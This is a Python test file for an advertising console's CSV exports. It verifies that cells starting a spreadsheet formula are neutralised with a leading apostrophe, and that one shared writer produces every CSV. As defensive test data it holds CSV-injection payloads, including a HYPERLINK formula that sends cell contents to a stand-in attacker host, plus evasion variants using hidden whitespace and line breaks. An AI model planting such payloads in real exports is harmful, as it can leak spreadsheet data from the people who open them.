"""Every CSV the console writes is safe to open in a spreadsheet: a cell that would start a formula (=, +, -, @, a
tab or a carriage return first) is written with a leading ' so it shows as text (CSV injection). One helper,
csv_exports.write_csv, writes them all; the last test keeps it that way."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

from sqlmodel import Session

from app.campaigns import export as campaign_export
from app.campaigns import service as campaigns
from app.campaigns.schemas import CampaignUpdate
from app.jobs import clock
from app.kernel import csv_exports
from app.kernel.config import REPO_ROOT
from app.reports import results as report_results
from app.reports import service as reports
from app.reports.schemas import ReportSettings
from app.supply import app_lists
from app.warehouse import get_store
from app.warehouse.base import FactRow
from tests.helpers import actor_of, stored_csv_text, wait_for_run

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
DANGEROUS = csv_exports.FORMULA_STARTS
DAY = date.today() - timedelta(days=2)
BASE = {"objective": "traffic", "starts_at": "2026-12-01", "time_zone": "UTC", "total_budget": "1000",
        "bid_strategy": "cpm", "bid": "2"}


def _cells(key: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(stored_csv_text(key), newline="")) for cell in row]


def _exported(link: dict[str, str], actor: object) -> list[str]:
    token = link["csv_download_url"].removeprefix(csv_exports.URL_PREFIX)
    return _cells(csv_exports.open_export(token=token, actor=actor)[0])  # type: ignore[arg-type]


def _assert_inert(cells: list[str], expected: list[str]) -> None:
    """No cell starts a formula, and each expected value is there, guarded, with its text intact."""
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)], cells
    for value in expected:
        assert ("'" + value if value.startswith(DANGEROUS) else value) in cells, (value, cells)


def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]) -> None:
    me = actor_of(db, "advertiser@demo.example")
    advertiser = demo_ids["advertiser@demo.example"]
    # Campaign names take letters, digits, spaces and hyphens: of the formula starts, only "-" gets through.
    names = []
    for name in ("-1 2", "-Winter Sale", "Spring Sale"):
        made = campaigns.create_campaign(db, actor=me, data=CampaignUpdate.model_validate({**BASE, "name": name}))
        names.append((made.id, made.name))
    hour = datetime(DAY.year, DAY.month, DAY.day, 10)
    get_store().ingest("csv-injection", [
        FactRow(hour=hour, advertiser_id=advertiser, campaign_id=cid, creative_id=0, exchange="Google AdX",
                os="Android", country="US", app=payload, device_type="phone", impressions=5, clicks=1,
                spend_micros=1000)
        for cid, payload in zip([cid for cid, _name in names] * 2, PAYLOADS, strict=True)], source="test")
    db.commit()
    stored_names = [name for _cid, name in names]

    # The campaign list's export, with the names as stored (a name may lose surrounding blanks on save).
    _assert_inert(_exported(campaign_export.export_campaigns(db, actor=me, columns=["name"]).model_dump(), me), stored_names)

    # A report by campaign (its CSV file, also what scheduled e-mails attach) and the running-apps export.
    report = reports.create_report(db, actor=me, report_type="campaign",
                                   data=ReportSettings.model_validate({"name": "-Sum 1", "period": "custom",
                                         "start_date": DAY.isoformat(), "end_date": DAY.isoformat(),
                                         "metrics": ["impressions", "clicks", "spend"]}))
    run_id = reports.start_run(db, actor=me, report_id=report.id).id
    db.commit()
    try:
        run = wait_for_run(run_id)
    finally:
        clock.shutdown()
    assert run.status == "completed", run.error
    report_cells = _cells(report_results.result_key(run.result_file))
    assert report_cells, "the report has rows"
    _assert_inert(report_cells, [])
    assert [c for c in report_cells if c.lstrip("'") in stored_names], report_cells
    download = reports.download_run(db, actor=me, run_id=run_id)
    assert not download.filename.startswith(DANGEROUS) and "/" not in download.filename
    _assert_inert(_exported(reports.running_apps_export(db, actor=me, start=DAY, end=DAY).model_dump(), me), PAYLOADS)

    # An inventory list's export: entries are checked on the way in, so the guard is for its header and kinds.
    made = app_lists.create_list(db, actor=me, name="-List 1", kind="allow",
                                 entries="news.example.com\n=1+1\n-bad.example")
    _assert_inert(_exported(app_lists.export_entries(db, actor=me, applist_id=made.list.id).model_dump(), me),
                  ["news.example.com"])


def test_safe_cell():
    for payload in (*PAYLOADS, "-", "=", "@"):
        assert csv_exports.safe_cell(payload) == "'" + payload
    for harmless in ("Spring Sale", "100", "1.5", "", None, "a=b", "'quoted", "a - b"):
        assert csv_exports.safe_cell(harmless) == ("" if harmless is None else harmless)


# Issue 21: blanks before a formula start, and a formula on a later line, passed; numbers became text ('-5).
HIDDEN = [" =1+1", "\u00a0@SUM(A1)", "note\n=HYPERLINK(\"http://evil.example\")", "a\r\n -1+2", "x\n\t+1"]


def test_the_csv_writer_keeps_numbers_and_defuses_every_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
    numbers = [-5, Decimal("-12.50"), 0, 2.25, 1234567]
    path = tmp_path / "out.csv"
    with path.open("wb") as out:
        csv_exports.write_csv(out, ["=title", *(f"c{n}" for n in range(len(numbers) + len(HIDDEN)))],
                              [[*numbers, *HIDDEN, "Spring Sale"]])
    with path.open(newline="", encoding="utf-8-sig") as source:
        header, row = list(csv.reader(source))
    assert header[0] == "'=title"
    assert row[:len(numbers)] == ["-5", "-12.50", "0", "2.25", "1234567"], "numbers are written as numbers"
    assert row[len(numbers):] == ["'" + text for text in HIDDEN] + ["Spring Sale"]
    for text in HIDDEN:
        assert csv_exports.unguarded_cell(csv_exports.safe_cell(text)) == text, "reading back undoes it"


def test_one_helper_writes_every_csv():
    """A new export written with its own csv.writer would skip the guard: only the shared writer (and the
    statistics stores' internal bulk-load files, never downloaded) may make one."""
    allowed = {"app/kernel/csv_exports.py", "app/warehouse/duckdb_store.py", "app/warehouse/clickhouse_store.py"}
    writers = {str(path.relative_to(REPO_ROOT)) for folder in ("app", "components")
               for path in (REPO_ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    assert writers <= allowed, writers - allowed
